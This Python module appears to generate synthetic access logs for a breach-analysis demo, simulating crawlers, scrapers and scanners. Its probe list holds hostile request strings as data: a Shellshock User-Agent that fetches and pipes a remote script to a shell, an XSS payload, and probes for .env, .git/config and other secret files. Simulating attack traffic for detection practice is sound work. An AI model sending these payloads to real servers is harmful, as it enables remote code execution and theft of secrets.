"""Robots in the public logs: search engines, scrapers on product pages, scanners.

Googlebot and bingbot crawl around the clock; a headless browser copies product pages some
evenings and Scrapy pages the product API twice a week at night (scripting agents at night
that read no personal data); scanners probe for the usual files and the customer API.
"""

from __future__ import annotations

import random

from breachdesk.demo.clock import Day
from breachdesk.demo.logfiles import BOTH, Hit
from breachdesk.demo.products import Catalogue

GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
GOOGLEBOT_MOBILE = (
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like "
    "Gecko) Chrome/131.0.6778.204 Mobile Safari/537.36 (compatible; Googlebot/2.1; "
    "+http://www.google.com/bot.html)"
)
BINGBOT = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
HEADLESS = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "HeadlessChrome/124.0.0.0 Safari/537.36"
)
SCRAPY = "Scrapy/2.11.2 (+https://scrapy.org)"
_PROBES = (
    ("/.env", "Mozilla/5.0 zgrab/0.x"),
    ("/wp-login.php", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101"),
    ("/.git/config", "Go-http-client/1.1"),
    ("/phpmyadmin/index.php", "Mozilla/5.0 zgrab/0.x"),
    ('/search?q="><svg/onload=alert(1)>', "Mozilla/5.0"),
    ("/cgi-bin/status", '() { :; }; /bin/bash -c "curl -s http://45.95.147.12/x.sh | sh"'),
    ("/api/v1/customers?page=1&per_page=100", "python-requests/2.28.1"),
    ("/actuator/env", "Mozilla/5.0 (compatible; Nuclei - Open-source project)"),
)


def crawlers_day(day: Day, catalogue: Catalogue, rng: random.Random) -> list[Hit]:
    return _bots(day, catalogue, rng) + _scrapers(day, catalogue, rng) + _scanners(day, rng)


def _bots(day: Day, catalogue: Catalogue, rng: random.Random) -> list[Hit]:
    hits: list[Hit] = []
    crawlers = (
        (GOOGLEBOT, "66.249.66", 190),
        (GOOGLEBOT_MOBILE, "66.249.68", 90),
        (BINGBOT, "40.77.167", 110),
    )
    for agent, net, mean in crawlers:
        for _ in range(int(mean * rng.uniform(0.8, 1.2))):
            ms = day.start + rng.randrange(day.end - day.start)
            ip = f"{net}.{rng.randrange(1, 255)}"
            roll = rng.random()
            if roll < 0.03:
                path = "/robots.txt"
            elif roll < 0.06:
                path = "/sitemap.xml"
            elif roll < 0.75:
                path = catalogue.product_page(rng, rng.choice(("fr", "en")))[0]
            else:
                path = catalogue.collection_page(rng, rng.choice(("fr", "en")))[0]
            status = 404 if rng.random() < 0.02 else 200
            hits.append(Hit(ms, ip, "GET", path, "", status, rng.randint(9_000, 90_000), "", agent))
    return hits


def _scrapers(day: Day, catalogue: Catalogue, rng: random.Random) -> list[Hit]:
    """A headless browser copying product pages some evenings; Scrapy on the product API."""
    hits: list[Hit] = []
    if rng.random() < 0.3:
        ms = day.at(rng.randint(18, 21), rng.randrange(60))
        ip = f"45.146.165.{rng.randrange(2, 250)}"
        for _ in range(rng.randint(500, 1100)):
            ms += rng.randint(800, 6_000)
            status = 429 if rng.random() < 0.06 else 200
            path = catalogue.product_page(rng, "en")[0]
            hits.append(
                Hit(ms, ip, "GET", path, "", status, rng.randint(30_000, 90_000), "", HEADLESS)
            )
    if day.weekday in (1, 4):
        ms = day.at(rng.randint(1, 3), rng.randrange(60))
        ip = f"185.191.171.{rng.randrange(2, 250)}"
        pages = len(catalogue.products) // 50 + 1
        for number in range(1, pages + 1):
            ms += rng.randint(1_500, 4_000)
            rows = min(50, len(catalogue.products) - (number - 1) * 50)
            hits.append(
                Hit(
                    ms,
                    ip,
                    "GET",
                    "/api/v1/products",
                    f"page={number}&per_page=50",
                    200,
                    120 + rows * 260,
                    "",
                    SCRAPY,
                    "anonymous",
                    None,
                    rows,
                    rng.randint(30, 120),
                    BOTH,
                )
            )
            for _ in range(rows // 5):
                ms += rng.randint(700, 2_500)
                path = catalogue.product_page(rng, "fr")[0]
                hits.append(
                    Hit(ms, ip, "GET", path, "", 200, rng.randint(30_000, 90_000), "", SCRAPY)
                )
    return hits


def _scanners(day: Day, rng: random.Random) -> list[Hit]:
    hits: list[Hit] = []
    for _ in range(rng.randint(4, 14)):
        ms = day.start + rng.randrange(day.end - day.start)
        first = rng.choice((45, 89, 103, 141, 167, 193))
        ip = f"{first}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        target, agent = rng.choice(_PROBES)
        path, _, query = target.partition("?")
        if path.startswith("/api/"):
            hits.append(
                Hit(
                    ms,
                    ip,
                    "GET",
                    path,
                    query,
                    401,
                    64,
                    "",
                    agent,
                    "anonymous",
                    None,
                    0,
                    rng.randint(2, 9),
                    BOTH,
                )
            )
        else:
            hits.append(Hit(ms, ip, "GET", path, query, 404, 153, "", agent))
    return hits
